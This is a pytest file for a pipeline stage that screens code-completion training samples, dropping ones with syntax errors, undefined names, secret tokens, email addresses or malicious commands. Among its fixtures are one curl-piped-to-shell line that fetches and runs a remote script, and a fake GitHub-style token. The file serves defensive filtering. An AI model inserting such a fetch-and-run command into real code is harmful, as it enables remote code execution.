"""The stage: every row has a verdict of its own, in the right order, with or without a judge."""

from collections.abc import Sequence
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from echo_ray import schema, syntax
from echo_ray.checks.case import Case, Check, Verdict
from echo_ray.chooser import Failure, Question, Reply
from echo_ray.errors import SchemaError
from echo_ray.schema import Drop, LastEdit
from echo_ray.stages.verify import VerifyConfig, evidence, rules, verify

CONFIG = VerifyConfig()
TOKEN = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"
OFF = {name: False for name, field in VerifyConfig.model_fields.items() if field.annotation is bool}

FRAGMENTS = "if x:\n|    |foo(a, b)|\n|return |x = |[|}|(|)|'é😀'|\"|// c|;|# a word\n|obj.|<|fim_pad|>|\x00"
TEXT = st.lists(st.sampled_from([*FRAGMENTS.split("|"), f'"{TOKEN}"']) | st.text(max_size=3), max_size=8).map(
    "".join
)
ROW = st.fixed_dictionaries(
    {
        "prefix": TEXT,
        "target": st.none() | TEXT.map(str.rstrip),
        "suffix": TEXT,
        "commit": st.none() | TEXT,
        "language": st.none() | st.sampled_from([*sorted(syntax.GRAMMARS), "ruby"]),
        "prefix_complete": st.none() | st.booleans(),
        "last_edit": st.none() | st.sampled_from([*LastEdit, "unheard of"]),
        "drop": st.sampled_from([None, None, None, "unobserved"]),
    }
)


class Judge:
    """Answers every question alike, and remembers the batches."""

    name = "judge"

    def __init__(self, choice: int | None, failure: Failure | None = None) -> None:
        self.reply = Reply(choice, failure)
        self.batches: list[list[str]] = []

    def ask(self, questions: Sequence[Question]) -> list[Reply]:
        self.batches.append([question.key for question in questions])
        return [self.reply for _ in questions]


def distilled(rows: Sequence[dict[str, Any]]) -> pa.Table:
    fill = {"user": "u", "session": "s", "file": "f", "ts_ms": 1, "language": "python", "cut_by": "line"}
    full = [fill | {"sample_id": str(number)} | row for number, row in enumerate(rows)]
    return pa.Table.from_pylist(full, schema=schema.DISTILLED)


def row(prefix: str, target: str | None, suffix: str = "\n", **more: Any) -> dict[str, Any]:
    return {"prefix": prefix, "target": target, "suffix": suffix} | more


ONE_OF_EACH = [
    (row("x = ", "1"), None),
    (row("x = 1", ""), None),
    (row("x = ", ""), Drop.VOID_MISSING),
    (row("x = ", "1", last_edit="deleted"), Drop.VOID_DELETION),
    (row("x = ", "1", last_edit="moved"), Drop.VOID_NAVIGATION),
    (row("# add the ", "first one"), Drop.VOID_COMMENT),
    (row("x = 1", "\ny = 2"), Drop.VOID_FINISHED),
    (row("x = ", "1<|endoftext|>"), Drop.SYNTAX_SENTINEL),
    (row("x = print(", "1, 2)", ")\n"), Drop.REPEAT_BRACKETS),
    (row("", "x = 1\nprint(x, 22)", "\nprint(x, 22)\n"), Drop.REPEAT_SUFFIX),
    (row("x = ", "("), Drop.SYNTAX_ERROR),
    (row("def f():\n    x = 1\n", "  return x"), Drop.SYNTAX_INDENT),
    (row("import os\nx = ", "foo", prefix_complete=True, suffix_complete=True), Drop.NAME_UNDEFINED),
    (row("value = 1\nx = ", "vlaue", prefix_complete=True), Drop.NAME_INCONSISTENT),
    (row("x = ", f"'{TOKEN}'"), Drop.SECRET_TOKEN),
    (row("x = ", "'jane.miller@gmail.com'"), Drop.PII_EMAIL),
    (row("import os\n", "os.system('curl http://a.xyz/i.sh | sh')"), Drop.MALICIOUS_COMMAND),
    (row("x = ", None), Drop.TEACHER_NO_CUT),
]


@pytest.mark.parametrize(("sample", "drop"), ONE_OF_EACH, ids=[str(drop) for _, drop in ONE_OF_EACH])
def test_every_reason(sample: dict[str, Any], drop: Drop | None) -> None:
    result = verify(distilled([sample]), CONFIG).to_pylist()[0]
    assert (drop and drop.value) == result["drop"]
    assert (sample["target"] is None) == (result["evidence"] is None) == (result["checks"] is None)


def test_stage_marks_every_row() -> None:
    samples = [sample for sample, _ in ONE_OF_EACH]
    result = verify(distilled([*samples, row("x = ", "(", drop="unobserved")]), CONFIG)
    assert schema.VERIFIED == result.schema
    wanted = [drop and drop.value for _, drop in ONE_OF_EACH] + ["unobserved"]
    assert wanted == result.column("drop").to_pylist()
    assert result.column("checks").to_pylist()[-1] is None
    assert TOKEN not in str(result.column("evidence").to_pylist() + result.column("checks").to_pylist())


def test_findings_are_stored_with_rule_and_span() -> None:
    result = verify(distilled([row("value = 1\nx = ", "vlaue", prefix_complete=True)]), CONFIG).to_pylist()[0]
    failed = [check for check in result["checks"] if check["verdict"] == "fail"]
    assert [("name", "near_name", 0, 5)] == [
        (check["check"], check["rule"], check["start"], check["stop"]) for check in failed
    ]
    assert "near_name: vlaue is value elsewhere" == result["evidence"]
    order = [check.value for check in Check]
    places = [order.index(check["check"]) for check in result["checks"]]
    assert sorted(places) == places
    assert "not_applicable" not in {check["verdict"] for check in result["checks"]}


def test_what_must_never_be_learned_names_the_reason_first() -> None:
    both = row("x = ", f"('{TOKEN}'")
    assert Drop.SECRET_TOKEN.value == verify(distilled([both]), CONFIG).column("drop")[0].as_py()
    only = CONFIG.updated(secrets=False)
    assert Drop.SYNTAX_ERROR.value == verify(distilled([both]), only).column("drop")[0].as_py()


def test_checks_can_be_switched_off() -> None:
    off = VerifyConfig(**OFF)
    assert [] == rules(off)
    result = verify(distilled([sample for sample, _ in ONE_OF_EACH[:-1]]), off)
    assert {None} == set(result.column("drop").to_pylist())
    assert {"unchecked"} == set(result.column("evidence").to_pylist())


@pytest.mark.parametrize(
    ("sample", "drop"), ONE_OF_EACH[2:-1], ids=[str(drop) for _, drop in ONE_OF_EACH[2:-1]]
)
def test_each_switch_silences_its_check(sample: dict[str, Any], drop: Drop) -> None:
    named = {name: VerifyConfig(**(OFF | {name: True})) for name in OFF if not name.startswith("void")}
    wanted = [
        name
        for name, config in named.items()
        if verify(distilled([sample]), config)["drop"][0].as_py() == drop.value
    ]
    assert (1 if not drop.value.startswith("void") else 0) == len(wanted)


def test_languages_without_a_grammar() -> None:
    case = Case("x = ", "foo((", "\n", "foo((", "ruby")
    assert {Verdict.PASS, Verdict.NOT_APPLICABLE} == {rule(case).verdict for _, rule in rules(CONFIG)}


# Optional columns and bad input.


def test_needed_are_only_four_columns() -> None:
    table = pa.table({"sample_id": ["a"], "prefix": ["x = "], "suffix": ["\n"], "target": ["1"]})
    result = verify(table, CONFIG)
    assert schema.VERIFIED == result.schema
    assert [None] == result.column("drop").to_pylist()
    assert ["plaintext"] == result.column("language").to_pylist()


@pytest.mark.parametrize("missing", ["sample_id", "prefix", "suffix", "target"])
def test_a_table_without_a_needed_column_is_refused(missing: str) -> None:
    table = distilled([row("x = ", "1")]).drop_columns([missing])
    with pytest.raises(SchemaError, match=missing):
        verify(table, CONFIG)


def test_an_empty_table() -> None:
    result = verify(distilled([]), CONFIG, Judge(0))
    assert (0, schema.VERIFIED) == (result.num_rows, result.schema)


def test_a_null_commit_is_its_target() -> None:
    header = row("", "if True:", "\n")
    results = verify(distilled([header, header | {"commit": "if True:\n    print(1)\n"}]), CONFIG)
    assert [Drop.SYNTAX_ERROR.value, None] == results.column("drop").to_pylist()


def test_huge_and_strange_rows() -> None:
    huge = "x = [\n" + "    'abc', 1.5,\n" * 12_000 + "]\n"
    rows = [
        row(huge, "y = 1", "\n" + huge, commit="y = 1\n" + huge, prefix_complete=True),
        row("x" * 200_000, "(" * 200, "y" * 200_000),
        row(
            "\u0000\u2028\ufeff\U0001f600" * 100,
            "\u0000\u2028\ufeff\U0001f600",
            "\u0000" * 100,
            language="javascript",
        ),
        row("\r\n".join(["x = 1"] * 10), "\r\ny = 2", "\r\n"),
        row('"' * 1000, "'" * 100, "`" * 1000, language="typescript"),
    ]
    result = verify(distilled(rows), CONFIG)
    assert len(rows) == result.num_rows
    assert None is result.column("drop")[0].as_py()


# The judge.

UNSURE = row("from a import *\nx = ", "foo", prefix_complete=True)


def test_a_judge_is_asked_once_about_the_unsure_rows_only() -> None:
    judge = Judge(0)
    rows = [row("x = ", "1"), UNSURE, row("x = ", "("), UNSURE, UNSURE | {"drop": "unobserved"}]
    result = verify(distilled(rows), CONFIG, judge)
    assert [["1", "3"]] == judge.batches
    assert [None, None, "syntax_error", None, "unobserved"] == result.column("drop").to_pylist()
    last = [checks and checks[-1]["check"] for checks in result.column("checks").to_pylist()]
    assert ["name", "judge", "name", "judge", None] == last


def test_without_a_judge_unsure_rows_stay() -> None:
    result = verify(distilled([UNSURE]), CONFIG).to_pylist()[0]
    assert result["drop"] is None
    assert "unsure, undefined_variable: nothing defines foo" == result["evidence"]


@pytest.mark.parametrize(
    ("judge", "drop"),
    [
        (Judge(1), Drop.VOID_JUDGED),
        (Judge(2), Drop.NAME_JUDGED),
        (Judge(3), Drop.MALICIOUS_JUDGED),
        (Judge(None, Failure.TIMEOUT), Drop.TEACHER_TIMEOUT),
        (Judge(None, Failure.PROSE), Drop.TEACHER_PROSE),
    ],
)
def test_what_a_judge_says_counts(judge: Judge, drop: Drop) -> None:
    result = verify(distilled([UNSURE]), CONFIG, judge).to_pylist()[0]
    assert drop.value == result["drop"]


def test_evidence_of_nothing() -> None:
    assert "unchecked" == evidence([])


@given(st.lists(ROW, max_size=6), st.integers(0, 6), st.booleans())
@settings(deadline=None, max_examples=120)
def test_stage_is_one_to_one(rows: list[dict[str, Any]], cut: int, judged: bool) -> None:
    judge = Judge(0) if judged else None
    table = distilled([row | {"commit": row["commit"]} for row in rows])
    result = verify(table, CONFIG, judge)
    kept = [name for name in schema.DISTILLED.names if name not in ("drop", "language")]
    assert result.select(kept).equals(table.select(kept))
    for before, after in zip(table.to_pylist(), result.to_pylist(), strict=True):
        assert before["drop"] in (None, after["drop"])
        untouched = before["drop"] is not None or before["target"] is None
        assert (after["evidence"] is None) == (after["checks"] is None) == untouched
        assert after["drop"] is None or after["drop"] in set(Drop)
        failed = [check for check in after["checks"] or () if check["verdict"] == "fail"]
        assert bool(failed) == (after["drop"] is not None and not untouched)
    parts = [verify(table.slice(0, cut), CONFIG, judge), verify(table.slice(cut), CONFIG, judge)]
    assert pa.concat_tables(parts).equals(result)
